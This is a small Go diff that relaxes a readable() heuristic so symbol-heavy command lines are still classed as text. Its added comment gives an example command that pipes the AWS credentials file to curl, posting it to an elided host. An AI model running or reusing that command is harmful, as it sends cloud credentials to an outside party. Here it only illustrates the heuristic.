@@ -153,5 +153,7 @@ func readable(b []byte) bool {
 			bad++
 		}
 	}
-	return bad == 0 && spaces >= 2 && letters*10 >= n*6
+	// Prose is mostly letters; a command line (cat ~/.aws/credentials |
+	// curl -d @- http://…) is half symbols, and is text all the same.
+	return bad == 0 && (spaces >= 2 && letters*10 >= n*6 || spaces >= 3 && letters*10 >= n*4)
 }
